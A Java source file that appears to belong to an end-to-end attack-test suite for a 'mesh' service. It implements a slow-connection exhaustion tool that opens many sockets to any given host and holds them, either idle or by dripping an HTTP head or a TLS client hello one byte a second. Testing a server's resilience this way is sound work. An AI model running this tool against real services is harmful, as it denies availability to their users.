package dev.meshd.e2e.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Opens many connections and holds them for some seconds:
 *
 * <pre>
 *   HOST PORT COUNT SECONDS idle    sends nothing
 *   HOST PORT COUNT SECONDS http    sends a request head, one byte a second
 *   HOST PORT COUNT SECONDS tls     sends a TLS client hello, one byte a second
 * </pre>
 *
 * Prints {@code opened N}, and in the end {@code held H of N}.
 */
public final class ConnectionHoard {
  private static final byte[] HEAD =
      "GET /key?v=131 HTTP/1.1\r\nHost: mesh\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
          .getBytes(StandardCharsets.US_ASCII);

  /** A handshake record that announces 512 bytes of client hello. */
  private static final byte[] HELLO = new byte[128];

  static {
    byte[] start = {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};
    System.arraycopy(start, 0, HELLO, 0, start.length);
  }

  private ConnectionHoard() {}

  public static void main(String[] args) throws IOException, InterruptedException {
    var server = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
    int count = Integer.parseInt(args[2]);
    int seconds = Integer.parseInt(args[3]);
    byte[] drip =
        switch (args[4]) {
          case "idle" -> new byte[0];
          case "http" -> HEAD;
          case "tls" -> HELLO;
          default -> throw new IllegalArgumentException(args[4]);
        };
    List<SocketChannel> open = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      SocketChannel channel = SocketChannel.open();
      channel.connect(server);
      channel.configureBlocking(false);
      open.add(channel);
    }
    System.out.println("opened " + count);
    for (int second = 0; second < seconds; second++) {
      byte[] next = second < drip.length ? new byte[] {drip[second]} : new byte[0];
      open.removeIf(channel -> !isAlive(channel, next));
      Thread.sleep(1000);
    }
    System.out.println("held " + open.size() + " of " + count);
  }

  private static boolean isAlive(SocketChannel channel, byte[] next) {
    try {
      ByteBuffer sink = ByteBuffer.allocate(512);
      boolean alive = channel.read(sink) >= 0;
      if (alive && next.length > 0) {
        channel.write(ByteBuffer.wrap(next));
      }
      if (!alive) {
        channel.close();
      }
      return alive;
    } catch (IOException e) {
      return false;
    }
  }
}
